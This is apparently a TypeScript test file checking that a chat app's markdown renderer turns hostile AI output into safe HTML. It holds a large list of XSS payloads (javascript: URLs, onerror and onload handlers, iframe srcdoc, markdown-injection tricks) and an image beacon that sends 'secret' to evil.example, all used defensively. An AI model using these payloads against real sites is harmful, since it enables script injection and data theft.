/** Model output is hostile input: whatever it says, only known elements, attributes and three schemes come out. */
import { describe, expect, it } from 'vitest';
import { labels } from './labels.fixture';
import { MarkdownView } from './render';
import { safeUrl } from './links';

const ELEMENTS = new Set(
  'P H3 H4 H5 H6 STRONG EM DEL CODE PRE DIV SPAN BUTTON UL OL LI BLOCKQUOTE HR BR TABLE THEAD TBODY TR TH TD A'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'class href rel target title type data-copy data-lang tabindex role aria-label dir translate start scope'.split(
    ' ',
  ),
);

const SCRIPTS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)',
  'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#106;avascript:alert(1)', '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd', 'blob:https://a.example/1', 'ftp://a.example/x', 'ms-msdt:/id', 'vscode://x', 'intent://x#Intent;end', 'tel:123',
  'about:blank', 'view-source:https://a.example', 'filesystem:https://a.example/x', '//evil.example/x', '/api/chats', '#/c/x', '?x=1',
  'https://user:pass@evil.example/', 'https:\\\\evil', 'wss://a.example', 'chrome://settings', 'x-apple:1', 'jar:https://a!/',
]; // prettier-ignore

const RAW = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example></sCrIpT>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>', '<a href="https://a.example" onclick="alert(1)">x</a>', '<math><mtext><script>1</script></mtext></math>',
  '<style>*{display:none}</style>', '<link rel=stylesheet href=//evil.example>', '<base href=//evil.example>', '<meta http-equiv=refresh content=0>',
  '<form action=//evil.example><input name=q></form>', '<input autofocus onfocus=alert(1)>', '<video src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>', '<object data=x>', '<embed src=x>', '<template><script>1</script></template>', '<noscript><p title="</noscript><img src=x onerror=1>">',
  '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<script>1</script>]]>', '<?php echo 1 ?>', '<!DOCTYPE x [<!ENTITY y "z">]>', '<x-element is="y">',
  '<div style="background:url(//evil.example)">x</div>', '<p id=app>x</p>', '<br onclick=alert(1)>', '<img src="data:image/png;base64,AA" srcset="//evil.example 2x">',
  '**<img src=x onerror=alert(1)>**', '# <script>1</script>', '| <script>1</script> |\n|--|\n| <img src=x onerror=1> |', '- <svg/onload=1>', '> <script>1</script>',
  '`<script>1</script>`', '```html\n<script>alert(1)</script>\n```', '```"onload=alert(1)\nx\n```', '```js" onclick="alert(1)\nx\n```', '~~~ <img src=x>\nx\n~~~',
  '[a](https://a.example "x\\" onclick=\\"alert(1)")', '![x" onerror="alert(1)](https://a.example/x.png)', '<https://a.example/"onclick=alert(1)>',
  '[<img src=x onerror=1>](https://a.example)', '[a]\n\n[a]: javascript:alert(1) "x"', '[__proto__]\n\n[__proto__]: javascript:alert(1)',
  '[constructor]', '\u202e<script>1</script>', '<scr\u0000ipt>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;',
]; // prettier-ignore

const PAYLOADS = [
  ...SCRIPTS.flatMap((url) => [`[x](<${url}>)`, `![x](<${url}>)`]),
  ...SCRIPTS.map((url) => `<${url}>`),
  ...SCRIPTS.map((url) => `[r]\n\n[r]: <${url}>\n`),
  ...RAW,
];

function check(host: Element): void {
  for (const element of host.querySelectorAll('*')) {
    expect(ELEMENTS, element.outerHTML).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES, `${name}=${value}`).toContain(name);
      if (name === 'href') expect(['http:', 'https:', 'mailto:']).toContain(new URL(value).protocol);
    }
    if (element.tagName === 'A') {
      expect(element.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(element.getAttribute('target')).toBe('_blank');
    }
  }
}

describe('hostile text', () => {
  it('has a corpus worth the name', () => {
    expect(PAYLOADS.length).toBeGreaterThan(150);
  });

  it.each(PAYLOADS)('%s', (payload) => {
    const host = document.createElement('div');
    const view = new MarkdownView(host, { labels });
    // Also every half-written state of it is on the page for a moment.
    for (let end = 1; end <= payload.length; end += 3) {
      view.update(payload.slice(0, end), false);
      check(host);
    }
    view.update(payload, true);
    check(host);
  });

  it('shows raw tags as words', () => {
    const host = document.createElement('div');
    new MarkdownView(host, { labels }).update('a <b onclick=x>c</b>', true);
    expect(host.textContent).toBe('a <b onclick=x>c</b>');
  });

  it('never makes an element that fetches', () => {
    const host = document.createElement('div');
    new MarkdownView(host, { labels }).update('![beacon](https://evil.example/?q=secret)', true);
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('a.chip')?.textContent).toBe('beacon evil.example');
  });
});

describe('safeUrl', () => {
  it.each(SCRIPTS)('refuses %s', (url) => {
    expect(safeUrl(url)?.protocol ?? 'https:').toBe('https:');
  });

  it.each(['https://a.example/x', 'http://10.0.0.1:8080/', 'mailto:me@a.example', 'HTTPS://A.example'])(
    'takes %s',
    (url) => {
      expect(safeUrl(url)).not.toBeNull();
    },
  );
});
